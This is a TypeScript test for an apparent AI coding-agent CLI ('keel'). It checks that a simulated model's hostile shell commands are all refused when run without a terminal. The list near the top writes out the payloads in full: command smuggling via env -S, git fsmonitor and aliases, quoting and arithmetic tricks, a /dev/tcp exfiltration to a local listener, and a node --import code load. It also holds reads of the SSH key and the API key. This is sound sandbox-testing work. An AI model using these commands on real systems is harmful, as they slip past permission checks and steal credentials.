// `keel run --approve execute` with no terminal, as a script would run it, against a model
// stand-in that proposes the audit's hostile commands one per turn: wrapper options that carry a
// command, git config values, options and global options that write, quoting and arithmetic
// forms that hide a command, a /dev/tcp connection, a path-qualified program, a test runner
// loading code, and reads of files outside the workspace and of the API key. None may have any
// effect: the workspace (and .git/config) is byte for byte unchanged, a TCP listener sees no
// connection, no secret reaches stdout or the log, and the model is told each call was refused.
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import type { RuntimeEvent } from '../../../src/kernel/index.js';
import { loadLog } from '../../../src/node/jsonl-store.js';
import { conversation, startModelServer, type ModelServer, type RecordedRequest } from '../../support/model-server.js';
import { scratchDir } from '../../support/scratch.js';

const ROOT = path.resolve(__dirname, '../../..');

interface Case {
  name: string;
  command: string;
}

/** Every payload writes a `pwned-…` file in the workspace or connects to the listener. */
function hostileCommands(port: number): Case[] {
  return [
    { name: 'env -S carries a command', command: 'env -S "touch pwned-env-s"' },
    { name: 'git -c core.fsmonitor runs a program', command: "git -c core.fsmonitor='touch pwned-fsmonitor' status" },
    { name: 'git log --output writes a file', command: 'git log --output=pwned-git-log-output' },
    { name: 'a git global option hides the subcommand', command: "git --namespace log config alias.pwned '!touch pwned-alias'" },
    { name: "$'…' quoting", command: "echo $'\\'' ; touch pwned-ansi-c # '" },
    { name: 'backslashes inside backticks', command: 'echo `true \\`touch pwned-backticks\\` true` # `' },
    { name: '$( ) in an arithmetic context', command: "[[ 'a[$(touch pwned-arith)0]' -eq 0 ]]" },
    { name: '$( ) in a subscript (test -v)', command: "test -v 'a[$(touch pwned-test-v)0]'" },
    { name: 'a /dev/tcp connection', command: `exec 3<>/dev/tcp/127.0.0.1/${port}; cat README.md >&3` },
    { name: 'a path-qualified program', command: './cat README.md' },
    {
      name: 'a test runner loading code',
      command: `node --test --import 'data:text/javascript,import fs from "node:fs"; fs.writeFileSync("pwned-node-import", "x")'`,
    },
    { name: 'reading outside the workspace', command: 'cat ../outside/secret.txt' },
    { name: "reading the user's SSH key", command: 'cat ~/.ssh/id_rsa' },
    { name: 'printing the API key', command: 'printenv ANTHROPIC_API_KEY' },
  ];
}

interface World {
  root: string;
  ws: string;
  home: string;
  secrets: { key: string; outside: string; ssh: string };
}

function makeWorld(): World {
  const root = fs.realpathSync(scratchDir('hostile'));
  const secret = (what: string) => `KEELCANARY${what}${randomBytes(6).toString('hex')}`;
  const w: World = {
    root,
    ws: path.join(root, 'ws'),
    home: path.join(root, 'home'),
    secrets: { key: `sk-ant-api03-${secret('key')}`, outside: secret('outside'), ssh: secret('ssh') },
  };
  const put = (rel: string, content: string, mode = 0o644) => {
    fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
    fs.writeFileSync(path.join(root, rel), content, { mode });
  };
  put('ws/README.md', '# Demo\n');
  put('ws/package.json', '{ "name": "demo", "scripts": { "test": "node --test" } }\n');
  put('ws/test/ok.test.js', "require('node:test')('ok', () => {});\n");
  put('ws/cat', '#!/bin/sh\n: > pwned-dot-cat\n', 0o755);
  put('outside/secret.txt', `${w.secrets.outside}\n`);
  put('home/.ssh/id_rsa', `${w.secrets.ssh}\n`, 0o600);
  const git = (...args: string[]) =>
    execFileSync('git', args, {
      cwd: w.ws,
      stdio: 'ignore',
      env: {
        PATH: process.env.PATH,
        HOME: w.home,
        GIT_CONFIG_NOSYSTEM: '1',
        GIT_AUTHOR_NAME: 'A',
        GIT_AUTHOR_EMAIL: 'a@example.invalid',
        GIT_COMMITTER_NAME: 'A',
        GIT_COMMITTER_EMAIL: 'a@example.invalid',
      },
    });
  git('init', '-q', '-b', 'main');
  git('add', '-A');
  git('commit', '-q', '-m', 'first');
  return w;
}

/** Path → content hash of every file and link under dir (the .git folder included). */
function snapshot(dir: string): Map<string, string> {
  const out = new Map<string, string>();
  const walk = (d: string) => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) walk(p);
      else
        out.set(
          path.relative(dir, p),
          e.isSymbolicLink() ? `-> ${fs.readlinkSync(p)}` : createHash('sha256').update(fs.readFileSync(p)).digest('hex'),
        );
    }
  };
  walk(dir);
  return out;
}

function keelRun(args: string[], env: Record<string, string>): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ['--import=tsx', path.join(ROOT, 'src/cli/main.ts'), ...args], {
      cwd: ROOT,
      env: { ...process.env, ...env },
      // No terminal: nobody can be asked, so whatever the policy does not allow is rejected.
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => (stderr += d));
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

/** The tool_result the model was sent for a call, from the request that followed it. */
function toolResult(requests: readonly RecordedRequest[], callId: string): { content: string; is_error?: boolean } | undefined {
  for (const r of requests)
    for (const m of r.body?.messages ?? [])
      for (const b of Array.isArray(m.content) ? m.content : [])
        if (b.type === 'tool_result' && b.tool_use_id === callId)
          return { content: String(typeof b.content === 'string' ? b.content : JSON.stringify(b.content)), is_error: b.is_error };
  return undefined;
}

describe('keel run --approve execute against hostile commands', function () {
  this.timeout(120_000);
  let server: ModelServer | undefined;
  let listener: net.Server | undefined;

  afterEach(async () => {
    await server?.close();
    listener?.close();
  });

  it('runs none of them: nothing written, nothing connected, no secret shown, each refused to the model', async () => {
    const world = makeWorld();
    const connections: string[] = [];
    listener = net.createServer((s) => {
      connections.push(`${s.remoteAddress}:${s.remotePort}`);
      s.destroy();
    });
    await new Promise<void>((resolve) => listener!.listen(0, '127.0.0.1', resolve));
    const cases = hostileCommands((listener.address() as net.AddressInfo).port);
    server = await startModelServer(
      conversation([
        ...cases.map((c, i) => ({
          text: [`Trying: ${c.name}.`],
          toolCalls: [{ id: `toolu_case_${i}`, name: 'run_command', input: { command: c.command } }],
        })),
        { text: ['Done.'] },
      ]),
    );
    const before = snapshot(world.ws);
    const gitConfig = fs.readFileSync(path.join(world.ws, '.git/config'), 'utf8');
    const log = path.join(world.root, 'run.jsonl');
    const run = await keelRun(
      [
        'run',
        '--workspace',
        world.ws,
        '--base-url',
        server.anthropicBaseURL,
        '--approve',
        'execute',
        '--max-turns',
        '40',
        '--log',
        log,
        'look around',
      ],
      { ANTHROPIC_API_KEY: world.secrets.key, HOME: world.home },
    );
    assert.equal(run.code, 3, run.stdout + run.stderr);

    const events = loadLog(log).events;
    const logText = fs.readFileSync(log, 'utf8');
    const problems: string[] = [];
    cases.forEach((c, i) => {
      const why = refusalProblem(events, server!.requests, `toolu_case_${i}`);
      if (why) problems.push(`${c.name} (${c.command}): ${why}`);
    });
    const after = snapshot(world.ws);
    const changed = [...new Set([...before.keys(), ...after.keys()])].filter((p) => before.get(p) !== after.get(p));
    if (changed.length) problems.push(`the workspace changed: ${changed.join(', ')}`);
    if (fs.readFileSync(path.join(world.ws, '.git/config'), 'utf8') !== gitConfig) problems.push('.git/config changed');
    if (connections.length) problems.push(`the listener was connected to: ${connections.join(', ')}`);
    for (const [name, value] of Object.entries(world.secrets)) {
      if (run.stdout.includes(value) || run.stderr.includes(value)) problems.push(`the ${name} secret reached keel's output`);
      if (logText.includes(value)) problems.push(`the ${name} secret reached the log`);
    }
    assert.deepEqual(problems, [], `\n${problems.join('\n')}`);
    assert.equal(server.requests.length, cases.length + 1, 'the model saw every refusal and finished');
  });
});

/** Why the call was not cleanly refused (run, or answered with something other than a refusal), or undefined. */
function refusalProblem(events: readonly RuntimeEvent[], requests: readonly RecordedRequest[], callId: string): string | undefined {
  const proposed = events.find((e) => e.type === 'intent_proposed' && e.intent.providerRef === callId);
  if (proposed?.type !== 'intent_proposed') return 'never proposed';
  const id = proposed.intent.id;
  if (events.some((e) => e.type === 'intent_started' && e.intentId === id)) return 'it ran';
  const obs = events.find((e) => e.type === 'observation' && e.observation.intentId === id);
  const code = obs?.type === 'observation' ? obs.observation.code : undefined;
  if (code !== 'rejected_by_user' && code !== 'permission_denied') return `answered ${code ?? 'without an observation'}`;
  const result = toolResult(requests, callId);
  if (!result?.is_error || !/rejected|Not allowed/.test(result.content)) return `the model was told: ${result?.content.slice(0, 120)}`;
  return undefined;
}
